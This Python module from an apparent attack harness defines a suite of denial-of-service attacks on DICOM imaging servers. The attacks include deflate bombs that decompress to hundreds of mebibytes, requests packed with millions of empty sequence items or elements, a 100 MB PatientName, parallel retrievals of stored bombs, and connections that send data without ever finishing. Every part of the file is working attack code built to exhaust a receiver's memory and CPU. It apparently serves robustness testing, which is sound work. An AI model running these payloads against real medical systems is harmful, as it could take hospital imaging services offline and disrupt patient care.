"""Data sets that cost the receiver more than the sender: items, elements, zeros deflated, long values."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from struct import pack

from attack.harness import Attack, Victim
from attack.wire import (
    COMMITMENT,
    CT,
    DEFLATED,
    FIND,
    GET,
    IMPLICIT,
    Requestor,
    command,
    deflate,
    element,
    explicit,
    p_data,
    zeros,
)

MIB = 1 << 20
FIND_RQ, GET_RQ, STORE_RQ, ACTION_RQ = 0x0020, 0x0010, 0x0001, 0x0130
_ITEM = b"\xfe\xff\x00\xe0\x00\x00\x00\x00"
"""An item of no elements."""
_STUDY = element(0x00080052, b"STUDY ")
_SEQUENCE = 0x00081110
_REQUEST_ATTRIBUTES = 0x00400275


def _identifier(data: Callable[[], bytes], transfer: str = IMPLICIT) -> Callable[[Victim], str]:
    def act(victim: Victim) -> str:
        with Requestor.open(victim.port, FIND, transfer=transfer) as requestor:
            return requestor.told(FIND_RQ, FIND, data())

    return act


def _items(count: int, tag: int = _SEQUENCE) -> bytes:
    return element(tag, _ITEM * count)


def _explicit_items(count: int) -> bytes:
    return explicit(0x00080052, b"CS", b"STUDY ") + explicit(_SEQUENCE, b"SQ", _ITEM * count)


def _empty_elements(size: int) -> bytes:
    """Private elements without a value, of this many bytes."""
    return b"".join(pack("<HHI", 0x0009 + (n >> 16) % 11 * 2, n & 0xFFFF, 0) for n in range(size // 8))


def _uids(size: int) -> bytes:
    return element(0x0008_0052, b"IMAGE ") + element(0x00080018, b"\\".join(b"1.2.%07d" % n for n in range(size // 12)))


def _bomb(size: int) -> bytes:
    def parts() -> Iterator[bytes]:
        yield explicit(0x00080052, b"CS", b"STUDY ")
        yield explicit(0x00091001, b"UN", b"", size)
        yield from zeros(size)

    return deflate(parts())


def _commitment(count: int) -> bytes:
    item = b"".join(element(tag, value) for tag, value in ((0x00081150, CT.encode()), (0x00081155, b"1.2.3.4.5.6")))
    item = pack("<HHI", 0xFFFE, 0xE000, len(item)) + item
    return element(0x00081195, b"1.2.3.4") + element(0x00081199, item * count)


def _action(count: int) -> Callable[[Victim], str]:
    more = {0x00001001: f"{COMMITMENT}.1".encode(), 0x00001008: pack("<H", 1)}

    def act(victim: Victim) -> str:
        with Requestor.open(victim.port, COMMITMENT) as requestor:
            return requestor.told(ACTION_RQ, COMMITMENT, _commitment(count), more=more)

    return act


def _head(uid: bytes) -> bytes:
    """The beginning of an instance, up to group 0010H."""
    return element(0x00080016, CT.encode()) + element(0x00080018, uid) + element(0x00080060, b"CT")


def _places(uid: bytes) -> bytes:
    return element(0x0020000D, uid + b".1") + element(0x0020000E, uid + b".2")


def _store(data: Callable[[], bytes], transfer: str = IMPLICIT, uid: bytes = b"1.2.3.4") -> Callable[[Victim], str]:
    def act(victim: Victim) -> str:
        with Requestor.open(victim.port, CT, FIND, transfer=transfer) as requestor:
            said = requestor.told(STORE_RQ, CT, data(), more={0x00001000: uid})
            query = element(0x00080052, b"IMAGE ") + element(0x00080018, uid)
            query += element(0x0020000D, uid + b".1") + element(0x0020000E, uid + b".2")
            if transfer == IMPLICIT:
                said += f", then C-FIND {requestor.told(FIND_RQ, FIND, query, context_id=3)}"
            return said

    return act


def _get_of_bombs(count: int, size: int) -> Attack:
    """Stored deflated, retrieved in Implicit VR on `count` associations at once."""

    def uid(number: int) -> bytes:
        return b"1.2.3.%d" % number

    def prepare(victim: Victim) -> None:
        for number in range(count):
            head = explicit(0x00080016, b"UI", CT.encode()) + explicit(0x00080018, b"UI", uid(number))
            place = explicit(0x0020000D, b"UI", b"1.2") + explicit(0x0020000E, b"UI", uid(number) + b".2")

            def parts(start: bytes = head + place) -> Iterator[bytes]:
                yield start + explicit(0x7FE00010, b"OW", b"", size)
                yield from zeros(size)

            with Requestor.open(victim.port, CT, transfer=DEFLATED) as requestor:
                assert requestor.ask(STORE_RQ, CT, deflate(parts()), more={0x00001000: uid(number)}) == 0

    def get(victim: Victim, number: int, said: list[str]) -> None:
        identifier = element(0x00080052, b"IMAGE ") + element(0x00080018, uid(number))
        identifier += element(0x0020000D, b"1.2") + element(0x0020000E, uid(number) + b".2")
        with Requestor.open(victim.port, GET, CT, stores=True) as requestor:
            said.append(requestor.told(GET_RQ, GET, identifier))

    def act(victim: Victim) -> str:
        said: list[str] = []
        threads = [threading.Thread(target=get, args=(victim, number, said)) for number in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return ", ".join(said)

    return Attack(f"C-GET of {count} x {size // MIB} MiB stored deflated", act, prepare=prepare)


def _unfinished(associations: int, size: int) -> Callable[[Victim], str]:
    def act(victim: Victim) -> str:
        sent = ended = 0
        block = bytes(MIB)
        with ExitStack() as stack:
            for _ in range(associations):
                try:
                    requestor = stack.enter_context(Requestor.open(victim.port, FIND))
                    requestor.connection.sendall(p_data(1, 3, command(FIND_RQ, FIND, data=True)))
                    for _ in range(size // MIB):
                        requestor.send_data(block, last=False)
                        sent += 1
                except (OSError, EOFError):
                    ended += 1
        return f"{sent} MiB taken, {ended} of {associations} aborted"

    return act


ATTACKS = [
    Attack(
        "C-FIND, 11.7 kB deflated = 1,000,000 items", _identifier(lambda: deflate(_explicit_items(1_000_000)), DEFLATED)
    ),
    Attack("C-FIND, 0.5 MB deflated = 512 MiB of zeros", _identifier(lambda: _bomb(512 * MIB), DEFLATED)),
    Attack("C-FIND, 8 MB of 1,000,000 empty elements", _identifier(lambda: _STUDY + _empty_elements(8_000_000))),
    Attack("C-FIND, 2 MB of 250,000 items", _identifier(lambda: _STUDY + _items(250_000))),
    Attack("C-FIND, UID list of 40 MB", _identifier(lambda: _uids(40_000_000))),
    Attack("N-ACTION, 100,000 references", _action(100_000)),
    Attack(
        "C-STORE, 500,000 items in (0040,0275)",
        _store(lambda: _head(b"1.2.3.4") + _places(b"1.2.3.4") + _items(500_000, _REQUEST_ATTRIBUTES)),
    ),
    Attack(
        "C-STORE, 1,600,000 items in (0040,0275)",
        _store(lambda: _head(b"1.2.3.4") + _places(b"1.2.3.4") + _items(1_600_000, _REQUEST_ATTRIBUTES)),
    ),
    Attack(
        "C-STORE, 40 MB of empty elements",
        _store(lambda: _head(b"1.2.3.4") + _empty_elements(40_000_000) + _places(b"1.2.3.4")),
    ),
    Attack(
        "C-STORE, PatientName of 100 MB",
        _store(lambda: _head(b"1.2.3.4") + element(0x00100010, b"A" * 100_000_000) + _places(b"1.2.3.4")),
    ),
    _get_of_bombs(1, 900 * MIB),
    _get_of_bombs(4, 500 * MIB),
    Attack("25 x 60 MB of an identifier that does not end", _unfinished(25, 60 * MIB)),
]
